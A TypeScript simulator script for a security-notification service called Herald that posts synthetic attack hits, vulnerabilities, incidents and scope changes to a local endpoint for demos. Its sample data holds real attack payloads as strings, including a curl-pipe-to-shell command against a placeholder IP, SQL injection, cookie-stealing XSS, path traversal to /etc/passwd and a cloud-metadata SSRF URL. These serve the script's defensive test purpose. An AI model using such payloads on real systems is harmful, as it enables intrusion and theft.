/**
 * `npm run simulate`: a detection node for a running Herald. Posts a realistic mix to
 * POST /v1/events — bursts of attack hits, now and then a new vulnerability, an incident (an
 * attack on a known vulnerability), a perimeter change — so notifications can be watched
 * flowing to the configured integrations.
 *
 *   npm run simulate                        # against http://localhost:$PORT (8787), as the demo admin
 *   npm run simulate -- --url http://localhost:8787 --token hnode_…   # with an existing node token
 *   npm run simulate -- --duration 60 --rate 2                         # 60 s, ~2 batches per second
 *   npm run simulate -- --history 0                                    # skip the backfill
 *
 * It first backfills --history hours (default 26) of attack traffic with past timestamps, so the
 * first daily report (fire the cron) has something to show. The backfill ends an hour ago: Herald
 * stores and counts events older than NOTIFY_MAX_AGE (1 h by default) without notifying them, and
 * one notice per node says how many it held back, so the demo is not flooded with old alerts.
 * Without --token it signs in as the demo admin (scripts/local-config.ts) and creates a node.
 * Event ids are UUIDs chosen here, so a batch the server answered 503 is re-sent safely.
 */
import { randomUUID } from "node:crypto";
import { parseArgs } from "node:util";
import { signIn } from "./api-session.ts";
import { DEMO } from "./local-config.ts";

const { values: args } = parseArgs({
  options: {
    url: { type: "string", default: process.env.HERALD_URL || `http://localhost:${process.env.PORT || "8787"}` },
    token: { type: "string" },
    email: { type: "string", default: DEMO.email },
    password: { type: "string", default: DEMO.password },
    duration: { type: "string", default: "0" },
    rate: { type: "string", default: "1" },
    history: { type: "string", default: "26" },
    help: { type: "boolean", short: "h", default: false },
  },
});

if (args.help) {
  console.log(
    [
      "Usage: npm run simulate -- [--url URL] [--token hnode_…] [--duration SECONDS (0 = until Ctrl-C)] [--rate BATCHES_PER_SECOND] [--history HOURS]",
      "Herald's address: --url, else HERALD_URL, else http://localhost:$PORT (PORT defaults to 8787, as for npm start).",
      "Runs until Ctrl-C unless --duration is given.",
    ].join("\n"),
  );
  process.exit(0);
}

const baseUrl = args.url.replace(/\/$/, "");
const durationMs = Number(args.duration) * 1000;
const intervalMs = 1000 / Math.max(0.1, Number(args.rate) || 1);

const HOSTS = ["shop.example.com", "api.example.com", "admin.example.com", "cdn.example.com"];
const PATHS = [
  "/api/login",
  "/api/search",
  "/api/v1/orders",
  "/admin/upload",
  "/wp-login.php",
  "/graphql",
  "/static/../../etc/passwd",
];
const ATTACKS: { type: string; payload: string; point: string }[] = [
  { type: "sqli", payload: "id=1' UNION SELECT username, password FROM users --", point: "get.id" },
  { type: "xss", payload: "<script>alert(document.cookie)</script>", point: "get.q" },
  { type: "rce", payload: "; curl http://203.0.113.66/x.sh | sh", point: "post.json.cmd" },
  { type: "ptrav", payload: "../../../../etc/passwd", point: "path" },
  { type: "nosqli", payload: '{"$ne": null}', point: "post.json.password" },
  { type: "ssrf", payload: "http://169.254.169.254/latest/meta-data/", point: "post.json.url" },
  { type: "scanner", payload: "Nikto/2.5.0", point: "header.user-agent" },
  { type: "brute", payload: "admin:123456", point: "post.form.password" },
];
const ATTACKERS = [
  { ip: "203.0.113.7", country: "NL" },
  { ip: "198.51.100.23", country: "US" },
  { ip: "192.0.2.141", country: "BR" },
  { ip: "2001:db8:85a3::8a2e:370:7334", country: "DE" },
  { ip: "203.0.113.200", country: "CN" },
];
const VULNS = [
  {
    vuln_type: "sqli",
    title: "SQL injection in the login form",
    risk: "critical",
    path: "/api/login",
    parameter: "user",
  },
  { vuln_type: "xss", title: "Reflected XSS in search", risk: "high", path: "/api/search", parameter: "q" },
  { vuln_type: "info_leak", title: "Stack traces exposed in error pages", risk: "medium", path: "/api/v1/orders" },
  { vuln_type: "weak_auth", title: "Admin panel without rate limiting", risk: "low", path: "/admin/login" },
  {
    vuln_type: "ptrav",
    title: "Path traversal in file download",
    risk: "high",
    path: "/static/download",
    parameter: "file",
  },
];

const pick = <T>(list: readonly T[]): T => list[Math.floor(Math.random() * list.length)] as T;
/** The time events get: now, or a moment in the past while backfilling history. */
let clock = () => Date.now();
const now = () => new Date(clock()).toISOString();
/** Issues this run has reported, so incidents can reference them. */
const knownIssues: string[] = [];

function hit(type: "hit" | "incident" = "hit") {
  const attack = pick(ATTACKS);
  const attacker = pick(ATTACKERS);
  const blocked = Math.random() < 0.8;
  return {
    id: randomUUID(),
    type,
    occurred_at: now(),
    attack_type: attack.type,
    host: pick(HOSTS),
    method: attack.point.startsWith("post") ? "POST" : "GET",
    path: pick(PATHS),
    remote_addr: attacker.ip,
    remote_country: attacker.country,
    response_status: blocked ? 403 : 200,
    block_status: blocked ? "blocked" : "monitored",
    payload: attack.payload,
    point: attack.point,
    request_id: randomUUID().slice(0, 16),
    application: "shop",
    ...(type === "incident" ? { security_issue_id: pick(knownIssues) } : {}),
  };
}

function securityIssue(vuln = pick(VULNS)) {
  const id = randomUUID();
  knownIssues.push(id);
  return {
    id,
    type: "security_issue",
    occurred_at: now(),
    host: pick(HOSTS),
    method: "POST",
    discovered_by: "scanner",
    description: `Found by the active scanner while probing ${vuln.path}.`,
    ...vuln,
  };
}

function scopeChange() {
  const objectType = pick(["host", "ip", "port", "domain", "service"] as const);
  const value = {
    host: "beta.example.com",
    ip: "198.51.100.80",
    port: "8443",
    domain: "example.org",
    service: "redis",
  }[objectType];
  return {
    id: randomUUID(),
    type: "scope_change",
    occurred_at: now(),
    change: pick(["added", "removed"]),
    object_type: objectType,
    value,
  };
}

/** One tick: usually a few hits, sometimes a burst, and rarer events mixed in. */
function nextBatch(tick: number): Record<string, unknown>[] {
  const events: Record<string, unknown>[] = [];
  const burst = tick % 15 === 3;
  const hits = burst ? 30 + Math.floor(Math.random() * 50) : Math.floor(Math.random() * 6);
  for (let i = 0; i < hits; i++) events.push(hit());
  // A critical issue first: the demo admin's personal email subscribes to critical and high.
  if (tick === 1) events.push(securityIssue(VULNS[0]));
  else if (Math.random() < 0.12) events.push(securityIssue());
  if (knownIssues.length > 0 && Math.random() < 0.08) events.push(hit("incident"));
  if (tick === 2 || Math.random() < 0.05) events.push(scopeChange());
  return events;
}

async function createNodeToken(): Promise<string> {
  const session = await signIn(baseUrl, args.email, args.password);
  const created = await session.call<{ node: { name: string }; token: string }>("POST", "/api/nodes", {
    name: `simulator ${new Date().toISOString().slice(0, 16).replace("T", " ")}`,
  });
  if (created.status !== 201)
    throw new Error(`creating a node failed: ${created.status} ${JSON.stringify(created.body)}`);
  console.log(`Created node "${created.body.node.name}" (revoke it under Nodes when done).`);
  return created.body.token;
}

/** Posts a batch; on 429/503 waits as told and re-sends the same events (same ids: stored once). */
async function post(token: string, events: Record<string, unknown>[]): Promise<string> {
  for (let attempt = 1; ; attempt++) {
    const res = await fetch(`${baseUrl}/v1/events`, {
      method: "POST",
      headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
      body: JSON.stringify({ events }),
    });
    const body = await res.text();
    if (res.status === 202) return body;
    if ((res.status === 429 || res.status === 503) && attempt < 5) {
      const wait = Number(res.headers.get("Retry-After") ?? "2");
      console.log(`  ${res.status}: retrying in ${wait} s`);
      await new Promise((r) => setTimeout(r, wait * 1000));
      continue;
    }
    throw new Error(`POST /v1/events answered ${res.status}: ${body}`);
  }
}

/** A Herald that is not there gets one clear line, not a stack trace. */
async function checkReachable(): Promise<void> {
  try {
    await fetch(`${baseUrl}/api/health`);
  } catch {
    console.error(
      `Herald is not answering at ${baseUrl}. Start it with \`npm start\`, or point the simulator at it with --url or HERALD_URL (or PORT, when npm start runs on another port).`,
    );
    process.exit(1);
  }
}

await checkReachable();
const token = await (args.token ? Promise.resolve(args.token) : createNodeToken()).catch((error: Error) => {
  console.error(error.message);
  process.exit(1);
});

/** Posts `hours` of past traffic, oldest first, in batches of 100. */
async function backfill(hours: number) {
  if (hours <= 0) return;
  // Past NOTIFY_MAX_AGE's default: what is older than that is stored but not notified.
  const end = Date.now() - 3_600_000 - 60_000;
  const start = end - hours * 3_600_000;
  const events: Record<string, unknown>[] = [];
  for (let t = start; t < end; t += 60_000 + Math.random() * 60_000) {
    clock = () => t;
    const hits = Math.random() < 0.05 ? 20 + Math.floor(Math.random() * 30) : Math.floor(Math.random() * 3);
    for (let i = 0; i < hits; i++) events.push(hit());
    if (Math.random() < 0.004) events.push(scopeChange());
  }
  clock = () => Date.now();
  for (let i = 0; i < events.length; i += 100) await post(token, events.slice(i, i + 100));
  console.log(`Backfilled ${events.length} events over the past ${hours} h.`);
}
await backfill(Number(args.history) || 0);
console.log(
  `Posting events to ${baseUrl}/v1/events every ${Math.round(intervalMs)} ms${durationMs ? ` for ${args.duration} s` : " (Ctrl-C to stop)"}.`,
);
const started = Date.now();
let stop = false;
process.on("SIGINT", () => {
  stop = true;
});
for (let tick = 1; !stop && (!durationMs || Date.now() - started < durationMs); tick++) {
  const events = nextBatch(tick);
  if (events.length > 0) {
    const counts = new Map<string, number>();
    for (const e of events) counts.set(String(e.type), (counts.get(String(e.type)) ?? 0) + 1);
    const summary = [...counts].map(([type, n]) => `${n} ${type}`).join(", ");
    try {
      console.log(`${new Date().toISOString().slice(11, 19)}  ${summary.padEnd(48)} → ${await post(token, events)}`);
    } catch (error) {
      console.error(`${new Date().toISOString().slice(11, 19)}  ${(error as Error).message}`);
    }
  }
  await new Promise((r) => setTimeout(r, intervalMs));
}
